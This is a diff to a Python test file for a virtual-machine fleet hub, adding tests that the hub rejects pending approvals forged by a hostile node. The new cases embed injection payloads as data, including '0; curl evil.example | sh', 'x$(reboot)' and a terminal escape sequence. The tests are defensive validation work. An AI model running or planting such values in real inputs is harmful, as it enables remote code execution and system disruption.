@@ -4,6 +4,7 @@ new fields and staleness, the fleet's metrics on a real /metrics, and `pve-hub s
 from __future__ import annotations
 
 import contextlib
+import hashlib
 import io
 import json
 import os
@@ -51,8 +52,17 @@ def waiting(vmid: int = 102, node: str = NODE) -> pb.GuestState:
                          diffs=[pb.KeyDiff(key="scsi1", declared="", declared_absent=True, actual="local:1")],
                          pending=[pb.PendingApproval(node=node, vmid=vmid, op_kind="config.disk_detach",
                                                      action_class="DESTRUCTIVE", rule="disk_detach",
-                                                     descriptor=DESCRIPTOR, descriptor_sha256="ab" * 32,
+                                                     descriptor=DESCRIPTOR,
+                                                     descriptor_sha256=hashlib.sha256(DESCRIPTOR).hexdigest(),
                                                      audience=node)])
+
+
+def forged(**changes: object) -> pb.GuestState:
+    """A waiting guest whose pending approval a hostile node changed."""
+    guest = waiting()
+    for name, value in changes.items():
+        setattr(guest.pending[0], name, value)
+    return guest
 
 
 def report(seq: int, *guests: pb.GuestState, full: bool = True, base: int = 0, node: str = NODE,
@@ -102,6 +112,12 @@ def test_reports_full_then_delta_then_get_node_and_status(hub: Hub) -> None:
     (report(1, pb.GuestState(vmid=0, state=pb.SYNC_STATE_IN_SYNC)), "guests[0].vmid"),
     (report(1, ops=[pb.OpReport(op_id="nope", fate="ran")]), "ops[0].op_id"),
     (report(1, node="bad node"), "node"),
+    # A pending approval's words go into the commands `pve-hub pending` and the web page print for pasting.
+    (report(1, forged(descriptor_sha256="0; curl evil.example | sh")), "guests[0].pending[0].descriptor_sha256"),
+    (report(1, forged(descriptor=b"{}")), "guests[0].pending[0].descriptor_sha256"),
+    (report(1, forged(op_kind="x$(reboot)")), "guests[0].pending[0].op_kind"),
+    (report(1, forged(rule="r\x1b]0;t\x07")), "guests[0].pending[0].rule"),
+    (report(1, forged(action_class="SAFE")), "guests[0].pending[0].action_class"),
 ])
 def test_a_bad_report_names_the_field(hub: Hub, request_: pb.StateReport, field: str) -> None:
     """INVALID_ARGUMENT naming the field; nothing recorded."""
